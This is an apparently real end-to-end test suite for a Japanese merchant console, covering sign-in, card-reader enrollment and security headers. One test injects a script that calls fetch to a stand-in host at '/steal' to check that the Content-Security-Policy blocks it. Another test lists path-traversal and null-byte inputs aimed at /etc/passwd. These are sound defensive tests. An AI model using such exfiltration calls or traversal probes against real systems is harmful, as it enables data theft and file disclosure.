// The console in a real browser (Debian's Chromium), served by the real backend as in production.
import test from 'ava';
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import Koa from 'koa';
import type { Page } from 'playwright-core';
import { fileFixture, testDatabase } from './helpers/env.ts';
import { startApp, TEST_READER_AGENT_ORIGINS } from './helpers/server.ts';
import { launchBrowser, screenshotPath, signIn, signInThroughForm } from './helpers/browser.ts';
import { DEMO_PASSWORD } from '@mykey/dev-tools/demo-towns.ts';
import { securityHeaders } from '../src/http/security-headers.ts';

const SYSTEM_READY = 'すべて正常に動作しています';

const fixture = fileFixture(test, async (cleanup) => {
  const { db } = await testDatabase(cleanup);
  await db.seed.run();
  return { base: await startApp(cleanup, db), browser: await launchBrowser(cleanup) };
});

async function openPage(t: import('ava').ExecutionContext): Promise<{ page: Page; base: string }> {
  const { base, browser } = await fixture();
  const context = await browser.newContext();
  t.teardown(() => context.close());
  const page = await context.newPage();
  await page.goto(base);
  return { page, base };
}

test('a newcomer lands on the sign-in page, in Japanese', async (t) => {
  const { page, base } = await openPage(t);
  await page.waitForURL(`${base}/sign-in`);
  t.is(await page.title(), 'MyKey プラットフォーム');
  t.is(await page.getAttribute('html', 'lang'), 'ja');
  t.true(await page.getByLabel('ログインID').isVisible());
  t.true(await page.getByRole('button', { name: 'サインイン' }).isVisible());
});

test('the English switch changes the page and is remembered', async (t) => {
  const { page } = await openPage(t);
  await page.getByRole('button', { name: 'English' }).click();
  await page.getByLabel('Login ID').waitFor();
  t.is(await page.getAttribute('html', 'lang'), 'en');
  await page.reload();
  await page.getByLabel('Login ID').waitFor();
  t.true(await page.getByRole('button', { name: 'Sign in' }).isVisible());
});

test('a wrong password shows the backend message in the current language', async (t) => {
  const { page } = await openPage(t);
  await signIn(page, 'demo-shop', 'wrong');
  await page.getByText('ログインIDまたはパスワードが違います。').waitFor();
  t.pass();
});

test('a clerk signs in to the merchant console, sees the system is ready, and signs out', async (t) => {
  const { page, base } = await openPage(t);
  await signIn(page, 'demo-shop', DEMO_PASSWORD);
  await page.getByRole('heading', { level: 1, name: '加盟店コンソール' }).waitFor();
  t.is(page.url(), `${base}/merchant`);
  t.true(await page.getByText('みらいベーカリー').first().isVisible());
  const status = page.getByRole('region', { name: 'システムの状態' });
  await status.getByText(SYSTEM_READY).waitFor();
  await page.screenshot({ path: screenshotPath('merchant-console.png') });
  await page.getByRole('button', { name: 'サインアウト' }).click();
  await page.waitForURL(`${base}/sign-in`);
  await page.goto(`${base}/merchant`);
  await page.waitForURL(`${base}/sign-in`);
  t.pass();
});

test('municipal staff reach the municipality console, not the merchant one', async (t) => {
  const { page, base } = await openPage(t);
  await signInThroughForm(page, base, 'demo-city', '自治体コンソール');
  t.true(await page.getByText('みらい市（デモ）').first().isVisible());
  await page.goto(`${base}/merchant`);
  await page.waitForURL(`${base}/sign-in`);
  t.pass();
});

test('a clerk enrolls a card reader with a code from the console, sees it listed, and revokes it', async (t) => {
  const { page, base } = await openPage(t);
  await signIn(page, 'demo-shop', DEMO_PASSWORD);
  await page.getByRole('link', { name: '端末（カードリーダー）' }).click();
  await page.getByRole('heading', { level: 2, name: '端末（カードリーダー）' }).waitFor();
  t.is(page.url(), `${base}/merchant/devices`);

  await page.getByLabel('端末の名前').fill('テスト窓口1');
  await page.getByRole('button', { name: '登録コードを発行' }).click();
  const code = (await page.getByText(/^[2-9A-HJ-NP-Z]{4}-[2-9A-HJ-NP-Z]{4}-[2-9A-HJ-NP-Z]{2}$/).textContent())!;
  await page.getByText(/まで有効です（10分間・1回だけ使えます）/).waitFor();
  t.true(await page.getByText(`npm run reader-agent -- enroll ${code} --backend ${base}`).isVisible());

  // What the agent does at the counter PC.
  const enrolled = await fetch(`${base}/api/v1/devices`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ code }) });
  t.is(enrolled.status, 201);
  const { token } = await enrolled.json();

  await page.getByRole('button', { name: '一覧を更新' }).click();
  const row = page.getByRole('row', { name: /テスト窓口1/ });
  await row.getByText('利用中').waitFor();
  await page.screenshot({ path: screenshotPath('devices-console.png'), fullPage: true });

  await row.getByRole('button', { name: /登録を取り消す/ }).click();
  const dialog = page.getByRole('dialog', { name: '「テスト窓口1」の登録を取り消しますか？' });
  await dialog.getByRole('button', { name: '取り消す' }).click();
  await page.getByRole('status').getByText('「テスト窓口1」の登録を取り消しました。').waitFor();
  await row.getByText('取り消し済み').waitFor();
  t.false(await dialog.isVisible());

  const refused = await fetch(`${base}/api/v1/devices/self`, { headers: { Authorization: `Bearer ${token}` } });
  t.is(refused.status, 401);
  t.is((await refused.json()).code, 'device_unknown');
});

/** A GET with the path sent exactly as given (fetch would resolve `..` and re-encode it first). */
async function rawGet(base: string, path: string, options: https.RequestOptions = {}): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
  const url = new URL(base);
  const request = (url.protocol === 'https:' ? https : http).request({ host: url.hostname, port: url.port, path, method: 'GET', ...options });
  request.end();
  const [response] = (await once(request, 'response')) as [http.IncomingMessage];
  let body = '';
  for await (const chunk of response) body += chunk;
  return { status: response.statusCode!, headers: response.headers, body };
}

const POLICY = ["default-src 'self'", "script-src 'self'", "script-src-attr 'none'", "style-src 'self'", `connect-src 'self' ${TEST_READER_AGENT_ORIGINS.join(' ')}`,
  "img-src 'self' data:", "font-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'"];

test('the console and the API answer with the security headers; no HSTS over plain HTTP', async (t) => {
  const { base } = await fixture();
  for (const path of ['/', '/sign-in', '/healthz', '/api/v1/staff/me']) {
    const { headers } = await rawGet(base, path);
    t.deepEqual(String(headers['content-security-policy']).split(';').sort(), [...POLICY].sort(), path);
    t.is(headers['x-content-type-options'], 'nosniff', path);
    t.is(headers['referrer-policy'], 'no-referrer', path);
    t.is(headers['x-frame-options'], 'DENY', path);
    t.is(headers['strict-transport-security'], undefined, path);
  }
});

test('over HTTPS the answers carry HSTS', async (t) => {
  // The app's security headers behind real TLS (ctx.secure), with a self-signed certificate for 127.0.0.1.
  const pem = execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', '-', '-days', '1', '-subj', '/CN=127.0.0.1'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
  const app = new Koa().use(securityHeaders(TEST_READER_AGENT_ORIGINS)).use((ctx) => { ctx.body = 'ok'; });
  const server = https.createServer({ key: pem, cert: pem }, app.callback()).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.teardown(() => { server.closeAllConnections(); server.close(); });
  const { headers } = await rawGet(`https://127.0.0.1:${(server.address() as AddressInfo).port}`, '/', { rejectUnauthorized: false });
  t.is(headers['strict-transport-security'], 'max-age=63072000; includeSubDomains');
  t.is(headers['x-content-type-options'], 'nosniff');
});

test('a page that breaks the policy is stopped by the browser, and the browser check fails on it', async (t) => {
  const { base, browser } = await fixture();
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${base}/sign-in`);
  await page.getByLabel('ログインID').waitFor();
  // What an injected script would try: inline code, and sending data off to another origin.
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
    const sent = await fetch('http://192.0.2.1/steal').then(() => true, () => false);
    return { inline: (window as { injected?: boolean }).injected === true, sent };
  });
  t.deepEqual(ran, { inline: false, sent: false });
  const error = await t.throwsAsync(context.close());
  t.regex(error?.message ?? '', /The page broke its Content-Security-Policy:[\s\S]*script-src[\s\S]*connect-src/);
});

test('bad static paths answer 400 or 404 with a problem, never 500', async (t) => {
  const { base } = await fixture();
  const cases: Array<[string, number, string]> = [
    ['/%E0%A4%A', 400, 'request_invalid'],
    ['/%00', 400, 'request_invalid'],
    ['/index.html%00.png', 400, 'request_invalid'],
    ['/../../etc/passwd', 404, 'not_found'],
    ['/%2e%2e/%2e%2e/etc/passwd', 404, 'not_found'],
    ['/assets/..%2f..%2fpackage.json', 404, 'not_found'],
    ['/..%5c..%5cpackage.json', 404, 'not_found'],
    [`/${'a'.repeat(5000)}`, 404, 'not_found'],
    [`/${'a/'.repeat(600)}x.js`, 404, 'not_found'],
    ['/assets', 404, 'not_found'],
    ['/assets/', 404, 'not_found'],
    ['/assets/missing.js', 404, 'not_found'],
  ];
  for (const [path, status, code] of cases) {
    const answer = await rawGet(base, path);
    t.is(answer.status, status, path.slice(0, 60));
    t.is(answer.headers['content-type'], 'application/problem+json; charset=utf-8', path.slice(0, 60));
    t.is(JSON.parse(answer.body).code, code, path.slice(0, 60));
  }
  // The console's own routes and files are still there.
  t.is((await rawGet(base, '/merchant/devices')).status, 200);
  t.regex((await rawGet(base, '/')).body, /<script type="module" crossorigin src="\/assets\/index-[\w-]+\.js"><\/script>/);
});
